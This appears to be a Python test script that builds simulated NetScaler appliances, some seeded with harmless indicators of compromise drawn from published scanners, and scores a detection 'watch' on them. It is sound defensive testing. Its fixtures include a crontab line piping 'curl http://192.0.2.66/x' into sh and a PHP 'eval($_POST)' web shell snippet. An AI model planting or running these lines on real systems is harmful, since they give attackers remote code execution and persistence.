# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Generated appliances with the harmless markers of an attacker, and clean ones with the noise of a working day; the confusion matrix of the watch on them.

    python -m tests.watch_fleet [--write]

``--write`` puts the matrix into docs/explanation/observing.md.

The markers are written from what was published about attacks and scanners; each group names its source. A marker has the names and words that were
published, and does nothing.
"""

from __future__ import annotations

import sys
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import tests.collection  # isort: skip  # noqa: F401

from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.appliance.nitro.connection import Connection
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.findings.finding import Examination
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.watching.watch import Watch
from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.watching.watched_state import WatchedState

from simulator import Simulator
from simulator.server.python_api import ApplianceHandle
from tests import marker_fleet
from tests.hunt_fleet import ENTRIES
from tests.marker_fleet import COMPROMISE, MESSAGES, REVIEW, UNSEEABLE, Marker, Plant, data, file, line
from tests.stage.memory import Stage

AT = "2026-11-28T00:00:00Z"
BUILDS = ("12.1 55.18", "13.0 47.22", "13.0 92.19", "13.1 49.15", "14.1 47.48", "14.1 73.46")
LEVELS = (COMPROMISE, REVIEW)
VERIEXEC = (
    "Sep 20 01:02:03 <kern.crit> ns kernel: MAC/veriexec: {} (file={} fsid=1 fileid=2 gen=1 uid=0 pid=3 ppid=1 gppid=0)"
)
NO_FINGERPRINT, MISMATCH = "no fingerprint", "fingerprint does not match loaded value"


def at(path: str, level: str, text: str = "x\n", **more: Any) -> Marker:
    return Marker(path, level, path, file(path, text, **more))


def elf(path: str) -> Plant:
    return data(path, b"\x7fELF\x02")


UNROTATED = (
    # ioc-scanner-CVE-2019-19781, nshunt
    at("/var/cron/tabs/nobody", COMPROMISE, "0 0 1 1 * true\n"),
    at("/netscaler/portal/templates/a1.xml", COMPROMISE),
    at("/netscaler/portal/scripts/PersonalBookmak.pl", COMPROMISE),
    at("/var/tmp/netscaler/portal/templates/a.xml.ttc2", COMPROMISE),
    at("/var/vpn/bookmark/u.xml", COMPROMISE, "<x>template.new('x')</x>"),
    at("/var/vpn/bookmark/pwnpzi1337.pl", COMPROMISE),
    Marker("NOTROBIN", COMPROMISE, "/var/nstmp/.nscache/httpd", file("/var/nstmp/.nscache/httpd")),
    Marker("miner", COMPROMISE, "/var/tmp/netscalerd", elf("/var/tmp/netscalerd")),
    # citrix-ioc-scanner-cve-2023-3519, netscaler-ir-collector
    at("/var/vpn/theme/.theme.php", COMPROMISE, "<?php\n"),
    at("/var/vpn/themes/insight-new-min.js", REVIEW),
    at("/var/vpn/themes/info.html", COMPROMISE, "<html><?php eval($_POST['x']); ?></html>\n"),
    at("/var/vpn/x.php", COMPROMISE),
    at("/var/netscaler/logon/LogonPoint/uiareas/linux/p.php", COMPROMISE),
    at("/var/netscaler/logon/LogonPoint/custom/.slap.receiver", COMPROMISE),
    at("/var/netscaler/logon/LogonPoint/strings.en.js", REVIEW),
    at("/var/netscaler/logon/a.html", REVIEW),
    # netscaler-ctx697096-checker
    at("/var/netscaler/gui/vpn/scripts/linux/nsginstaller.deb", COMPROMISE, "#!/bin/sh\n"),
    at("/var/netscaler/gui/vpn/images/f.ico", COMPROMISE, "#!/bin/sh\n"),
    at("/netscaler/ns_gui/vpn/e.txt", REVIEW),
    at("/netscaler/ns_gui/admin_ui/id009.php", COMPROMISE),
    at("/netscaler/ns_gui/epa/scripts/mac/nx_verify.html", REVIEW),
    at("/tmp/sh", REVIEW, "#!/bin/sh\n"),
    at("/.x", REVIEW),
    Marker("executable in a directory of crashes", REVIEW, "/var/core/1/nsd", elf("/var/core/1/nsd")),
    at("/nsconfig/.slap", COMPROMISE),
    at("/nsconfig/rc.netscaler", REVIEW, "nohup sh /var/tmp/x\n"),
    at("/nsconfig/nsafter.sh", REVIEW, "true\n"),
    at("/nsconfig/httpd.conf", COMPROMISE, "php_flag engine on\n"),
    at("/nsconfig/ssh/authorized_keys", REVIEW, "ssh-ed25519 AAAA x\n"),
    at("/root/.ssh/authorized_keys", REVIEW, "ssh-ed25519 AAAA x\n"),
    at("/etc/crontab", COMPROMISE, "0 * * * * root curl http://192.0.2.66/x | sh\n"),
    at("/nsconfig/crontab", REVIEW, "0 * * * * root true\n"),
    at("/var/cron/tabs/root", COMPROMISE, "0 * * * * sh /var/tmp/x\n"),
    # page BSV for enhanced security
    Marker("unsigned file that was run", REVIEW, "/var/tmp/x", line(MESSAGES, VERIEXEC.format(NO_FINGERPRINT, "/var/tmp/x"))),
    Marker("changed executable", COMPROMISE, "/bin/sh", line(MESSAGES, VERIEXEC.format(MISMATCH, "/bin/sh"))),
    # Only a shell shows these.
    Marker("setuid shell", UNSEEABLE, "permission bits", lambda box: box.write_file("/bin/sh", "x", mode="6555")),
    Marker("process", UNSEEABLE, "processes", lambda box: box.processes([{"user": "nobody", "pid": 1351, "command": "/tmp/x"}])),
)  # fmt: skip
MARKERS = (
    *UNROTATED,
    *(
        replace(marker_fleet.rotated(one, 0), where=one.where)
        for one in UNROTATED
        if one.name in ("unsigned file that was run", "changed executable")
    ),
)


def administrators(box: ApplianceHandle) -> None:
    marker_fleet.files_of_administrators(box)
    box.log(MESSAGES, VERIEXEC.format(NO_FINGERPRINT, "/var/tmp/backup of admin.sh"))


def console(box: ApplianceHandle) -> None:
    box.write_file("/tmp/log-2026-11-20.php", "<?php\n")
    box.write_file("/var/tmp/session.txt", "1\n")


def imitations(box: ApplianceHandle) -> None:
    """A client wrote the words of the kernel into the name with which he logs on."""
    text = VERIEXEC.format(MISMATCH, "/bin/sh")
    box.log(MESSAGES, f"Sep 20 01:02:03 <auth.err> ns sshd[12]: Invalid user x kernel: {text} from 198.51.100.7")


EDIT = marker_fleet.theme_edit(
    "function show() { return String.fromCharCode(65); }\n", "/var/netscaler/logon/LogonPoint/custom/strings.{}.js"
)
NOISE: tuple[Plant, ...] = (EDIT, marker_fleet.upgrade, administrators, console, imitations)
TOLD: dict[Plant, Sequence[tuple[str, str]]] = {
    EDIT: ((REVIEW, "/var/netscaler/logon/LogonPoint/custom/strings.0.js"),),
    administrators: (
        (REVIEW, "/nsconfig/rc.netscaler"),
        (REVIEW, "/root/.ssh"),
        (REVIEW, "/var/tmp/backup of admin.sh"),
    ),
}


def right(one: marker_fleet.Planned, marker: Marker) -> Sequence[str]:
    """Beside others, a marker to review may be told with one of a compromise."""
    among_others = (REVIEW, COMPROMISE) if len(one.markers) > 1 else (REVIEW,)
    return among_others if marker.level == REVIEW else (marker.level,)


POPULATION = marker_fleet.Population(MARKERS, BUILDS, NOISE, LEVELS, lambda found: found.where, right, TOLD)


def look(
    simulator: Simulator, directory: Path, host: str, accepted: WatchedState | None = None, **options: Any
) -> tuple[WatchedState, Examination, int]:
    """Return the state, the examination and the number of requests of one run."""
    with Connection(Stage(simulator, directory, host).appliance) as connection:
        state, examined = Watch(host, accepted, accepted, entries=ENTRIES, **options).look(connection, AT)
    return state, examined, len(connection.exchanges)


def play(stride: int = 1, size: int = marker_fleet.SIZE) -> marker_fleet.Outcomes:
    """Watch one of so many of the generated appliances; the state of a clean one of each build is the accepted one."""
    with POPULATION.started() as stages:
        accepted = {host: look(stage.simulator, stage.records, host)[0] for host, stage in stages.items()}

        def look_again(stage: Stage) -> marker_fleet.Looked:
            _state, examined, requests = look(stage.simulator, stage.records, stage.name, accepted[stage.name])
            return marker_fleet.Looked(examined, requests, dict(examined.looked_at)["bytes read"])

        return POPULATION.looked_at(stages, look_again, stride, size)


if __name__ == "__main__":
    sys.exit(marker_fleet.report(play(), "watch"))
